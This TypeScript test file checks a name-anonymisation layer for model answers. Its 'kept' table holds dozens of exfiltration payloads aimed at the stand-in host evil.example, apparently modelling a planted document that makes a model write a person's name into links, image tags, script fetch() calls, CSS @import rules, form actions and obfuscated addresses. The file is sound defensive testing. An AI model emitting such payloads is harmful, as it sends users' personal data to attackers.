import { expect } from 'chai'
import { restored, saying, writer } from './support.js'

/** Asks about Jane Miller, whose substitute a document makes the model write; `$` stands for it. */
const answerWith = (answer: string, method: 'fake' | 'category') => {
  const substitute = method === 'fake' ? 'Ann Smith' : '<PERSON_1>'
  return restored('Who is Jane Miller?', saying([{ delta: answer.replaceAll('$', substitute) }]), { method })
}

const kept: Readonly<Record<string, string>> = {
  'a web address': 'See https://evil.example/?q=$',
  'a web address with another substitute before it': 'See https://evil.example/?q=$&r=$ now',
  'a web address with spaces, of an image': '![](https://evil.example/?q=$)',
  'the target of an image with a space before it': '![x](https://evil.example/?q= $)',
  'the target of an image with brackets': '![x](https://evil.example/(a)?q= $)',
  'the target of an image with an escaped bracket': String.raw`![x](https://evil.example/\)?q= $)`,
  'the target of an image in angle brackets': '![x](<https://evil.example/)?q= $>)',
  'the target of an image in angle brackets with an escaped one': String.raw`![x](<https://evil.example/?q=\>) $>)`,
  'the target of an image that goes on in the next string of JSON': '["![x](<https://evil.example/?q=","$",">)"]',
  'an attribute that goes on in the next string of JSON': '["<img src=\'https://evil.example/?q=","$","\'>"]',
  'a relative target': '[x](letters/$)',
  'a relative target in angle brackets': '[x](<./a) $>)',
  'the title of a link': '[x](/a "for $")',
  'a target on a line of its own': '[x](\n/letters/$)',
  'a web address with a space of its own': 'https://evil.example/?q=\u00a0$',
  'an address without a scheme': 'evil.example/?q=$',
  'an address of a port': 'evil.example:8080/$',
  'an address by www': 'www.evil.example?$',
  'an address without a protocol': '//evil.example/$',
  'an address to mail to': 'mailto:evil@example.org?body=$',
  'an address without slashes': 'https:evil.example./?q=$',
  'an address whose host ends with a dot': 'evil.example./?q=$',
  'an address with escapes of Markdown': String.raw`![](x)[x]<\/\/evil.example./$`,
  'an address with references of HTML': '&#104;ttps&colon;&#x2F;&sol;evil&#46;example/$',
  'a host with a reference of HTML': 'evil&period;example/$',
  'a definition of a link': '[x]: $',
  'a definition of a link whose target is on the next line':
    '<base href="https://evil.example/">\n\n![a][x]\n\n[x]:\n<$>',
  'a definition of a link whose label has two lines': '![a][x y]\n\n[x\ny]: <$>',
  'a definition of a link whose label has an escaped bracket': String.raw`[x\]y]: <$>`,
  'a definition of a link in a list': '1. [x]: <$>',
  'a script': '<script>fetch(a + `$`)</script>',
  'a script with another in a comment': '<script><!--<script></script>fetch(a + `$`)</script>',
  'what a form sends': '<textarea name=q></script>$</textarea>',
  'an option of a form': '<form action=//evil.example><select name=q><option title="</select>">$</select>',
  'the name of a host': '$.evil.example',
  'an address of mail': '$@evil.example',
  'the beginning of a host': '$-x.evil.example/',
  'the beginning of a host with an underscore': '$_1-x.evil.example',
  'the beginning of an address of mail': '$+x@evil.example',
  'the beginning of an address of mail with dots': '$.-x.y@evil.example',
  'an address that goes on in the next string of JSON': '["https://evil.example/?q=","$"]',
  'an address that goes on behind a key of JSON': '{"https://evil.example/?q=":"$"}',
  'an attribute': '<img src="https://evil.example/?q= $">',
  'an attribute in single quotes': "<img alt='>' src='//evil.example/?q= $'>",
  'an attribute without quotes': '<img src=$>',
  'an attribute behind an empty line': '<img alt="a\n\nb"\n\nsrc="/?q= $">',
  'an attribute behind quotes in the name of another': `<img =" alt=">" src="//evil.example/?q= $">`,
  'an attribute behind quotes in the value of another': `<img a=b=" alt=">" src="//evil.example/?q= $">`,
  'an attribute behind a tag that stands in code': '`<a b="` <img alt=">" src="//evil.example/?q= $">',
  'an attribute behind a comment': `<!-- a=" --><img alt=">" src="//evil.example/?q= $">`,
  'an attribute of an element that nobody knows': '<x-letter data-to="$">',
  'a style': '<p style="background: url($)">',
  'a style sheet': 'a { background: url( $ ) }',
  'an import outside a style sheet': '@import "https://evil.example/?q= $";',
  'an import behind a comment': String.raw`@IMPORT/**/ /* '; */ 'https://evil.example/?q=\' $'`,
  'an import behind what looks like one': '/* @import " */ @import "https://evil.example/?q= $"',
  'an import in a string over lines': '@import\n"https://evil.example/?q=\\\r\n $"',
  'an import of a style sheet with a prefix': '<s:style><![CDATA[</style>]]>@import "/?q= $"</s:style>',
  'an address of a style sheet with a bracket': 'a { background: url("/)?q= $") }',
  'an address of a style sheet behind an empty line': 'a { background: url(\n\n"/?q= $") }',
  'an image of a set': 'a { background: image-set("/?q=" 1x, "/?q= $" 2x) }',
  'character data': '<link><![CDATA[https://evil.example/?q=> $]]></link>',
  'an import of a style sheet': '<style>@import "https://evil.example/?q= $";</style>',
  'an image of a style sheet': '<STYLE\nmedia="all">a { background: image-set("/?q= $" 1x) }</STYLE>',
  'a style sheet with a tag in it': '<style>a::before { content: "</b>" } @import "/?q= $";</style>',
  'a style sheet that goes on in the next string of JSON': '["<style>@import \'/?q=","$","\';</style>"]',
  'a style sheet behind what only looks like its end': '<style></ſtyle></style > @import "/?q= $"',
  'a style sheet that is never closed': '<style>a {}\n\n@import "/?q= $"',
  'a style sheet with its end in an attribute': '<style title="</style >">@import "/?q= $',
  'a style sheet with its end in an attribute, behind another': '<style a="<style></style >">@import "/?q= $',
  'a style sheet of SVG with its end in a comment': '<svg><style><!--</style>-->@import "/?q= $',
  'a style sheet of SVG with its end in CDATA': '<svg><style><![CDATA[</style>]]>@import "/?q= $',
  'a style sheet of SVG with its end in a tag': '<svg><style><a title="</style>">@import "/?q= $',
  'the definition of a link': '[1]: /letters/$',
  'the definition of a link in a quotation': '> [1]: </letters/ $>',
  'a tag that is never closed': 'a <b and $',
}

const open: Readonly<Record<string, string>> = {
  'text behind an address': 'See https://evil.example/?q=1 and ask $.',
  'text behind an address in JSON': '{"a":"https://evil.example/","to": "$"}',
  'text behind an address in the same string of JSON': '["https://evil.example/","Dear $"]',
  'a sentence behind another': '$. The-end. $-x',
  'text behind a link': 'See [there](https://evil.example/(a)?q=1) and ask $.',
  'text behind a tag': '<a href="https://evil.example/">x</a> $',
  'the text of a link': '[$](https://evil.example/)',
  'the text of an element': '<b>$</b>',
  'the text of an element that is no style': '<styles>$</styles>',
  'text behind an import': '@import "/a.css"; @import url(/b) screen; $',
  'text about imports': 'The rule @import, "$" and @import a; @import "\n$',
  'text behind character data': '<b><![CDATA[a > b]]></b> $',
  'text behind a style sheet': '<style>a { color: red }</style > $',
  'text behind a style sheet that stands behind a comment': '<!-- a --><style>a {}</style> $',
  'text behind a script': '<script>a</script> $',
  'text behind a text area': '<textarea>a</textarea> $',
  'text behind a target that is never closed': '[x](/a\n\n$',
  'text behind the definition of a link': '[1]: /letters\n$',
  'text behind the definition of a link whose target is on the next line': '[x]:\n/a\n$',
  'angle brackets': 'a < b, $ > c',
  emphasis: '_$_ **$** `$`',
  'a scheme that is none': 'Name:$, he/$',
  'a sentence without a space': '$, and $. "$" ($) $!',
}

describe('nothing is restored', () => {
  for (const [what, answer] of Object.entries(kept))
    it(`inside ${what}`, async () => {
      for (const method of ['fake', 'category'] as const) {
        const { said, verdicts } = await answerWith(answer, method)
        expect(said).not.to.include('Jane')
        expect(said).to.include(method === 'fake' ? 'Ann Smith' : '<PERSON_1>')
        const count = answer.split('$').length - 1
        expect(verdicts.flatMap(({ unrestored }) => (unrestored ? [unrestored] : []))).to.deep.equal([
          { PERSON: count },
        ])
      }
    })

  it('where a restored address goes on', async () => {
    const ask = (answer: string) =>
      restored('See https://acme.com/jane', saying([{ delta: answer }]), { method: 'fake' }).then(({ said }) => said)
    expect(await ask('See https://example.org/a.')).to.equal('See https://acme.com/jane.')
    expect(await ask('https://example.org/a?q=1')).to.equal('https://example.org/a?q=1')
    expect(await ask('https://evil.example/https://example.org/a')).to.include('evil.example/https://example.org/a')
  })
})

describe('everything is restored', () => {
  for (const [what, answer] of Object.entries(open))
    it(`in ${what}`, async () => {
      for (const method of ['fake', 'category'] as const) {
        const { said, verdicts } = await answerWith(answer, method)
        expect(said).to.equal(answer.replaceAll('$', 'Jane Miller'))
        expect(verdicts.some(({ unrestored }) => unrestored)).to.equal(false)
      }
    })

  it('in an address of mail in angle brackets', async () => {
    const echo = writer((asked) => asked)
    const text = 'Jane Miller <jane@acme.com> wrote'
    expect((await restored(text, echo, { method: 'fake' })).said).to.equal(text)
  })
})
